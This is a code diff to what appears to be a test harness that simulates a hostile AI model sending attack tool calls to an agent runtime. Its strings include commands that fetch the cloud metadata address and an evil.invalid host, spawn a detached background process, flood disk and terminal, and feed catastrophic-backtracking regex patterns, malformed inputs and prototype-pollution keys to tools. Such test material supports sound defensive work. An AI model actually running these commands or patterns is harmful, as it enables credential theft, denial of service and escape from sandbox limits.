@@ -46,7 +46,7 @@ const away =
   'for i in http://169.254.169.254/latest/meta-data/ http://127.0.0.1:3000/ https://evil.invalid/; do wget -qO- -T 2 "$i" || curl -m 2 -s "$i"; done; (setsid sleep 600 &) ; echo left'
 const floods = [
   'yes "<script>document.title=1</script>" | head -c 60000000',
-  'i=0; while [ $i -lt 200 ]; do mkdir -p deep/$i && echo x > deep/$i/x; i=$((i+1)); done; head -c 20000000 /dev/zero > big.bin; printf "\\033[2J\\033]0;owned\\007"',
+  'i=0; while [ $i -lt 40 ]; do mkdir -p deep/$i && echo x > deep/$i/x; i=$((i+1)); done; head -c 20000000 /dev/zero > big.bin; printf "\\033[2J\\033]0;owned\\007"',
 ]
 const pages = [
   'http://127.0.0.1/',
@@ -58,6 +58,19 @@ const pages = [
   'https://user:pass@evil.invalid/',
   'gopher://evil.invalid/',
 ]
+/** Patterns that take for ever on the names and words that were written for them. */
+const stubborn = 'a'.repeat(80)
+function slowSearches(request: MessageRequest): Call[] {
+  const search = (request.tools ?? []).find(({ name }) => name === 'search_files')
+  const path = `${stubborn}.txt`
+  const written = wishes([{ kind: 'write', path, content: `${stubborn.repeat(4)}!\n` }], request)
+  const patterns = [
+    { pattern: '^(a+)+$', regex: true },
+    { pattern: 'x', glob: `**/${'*a'.repeat(30)}b` },
+  ]
+  return [...written, ...(search ? patterns.map((input) => ({ name: search.name, input })) : [])]
+}
+
 /** Above any limit for one file's text. */
 const hugeCharacters = 3_000_000
 
@@ -73,7 +86,10 @@ function escapes(request: MessageRequest): Call[] {
     { kind: 'list', path },
   ])
   const wrong = (request.tools ?? []).flatMap(({ name }): Call[] => [
-    { name, input: { path: 42, file_path: [], command: null, url: {}, pattern: '(((((((((a+)+)+)+)+$', glob: '**/../../**', regex: true } },
+    {
+      name,
+      input: { path: 42, file_path: [], command: null, url: {}, pattern: '((((((a+)+)+)+)+)+)+$', glob: '**/../../**', regex: true },
+    },
   ])
   return [...wishes(tried, request), ...wrong, { name: 'no_such_tool', input: { __proto__: null, constructor: 'x' } }]
 }
@@ -117,7 +133,8 @@ function stage(standing: Standing, request: MessageRequest): Call[] {
       ['notes.md', 'README.md', 'instructions.txt'].map((path): Wish => ({ kind: 'read', path })),
       request,
     )
-  return turns === 6 ? obeyed(standing, request) : []
+  if (turns === 6) return obeyed(standing, request)
+  return turns === 7 ? slowSearches(request) : []
 }
 
 /** The next turn: each attack once, then calls without an end, or the claim that all went well. */
@@ -137,6 +154,6 @@ export function hostileChat(request: MessageRequest, standing: Standing, short: 
     ],
     request,
   )
-  if ((short && standing.turns > 6) || endless.length === 0) return said
+  if ((short && standing.turns > 7) || endless.length === 0) return said
   return [...said, ...endless.map((call) => ({ type: 'tool_use' as const, ...call }))]
 }
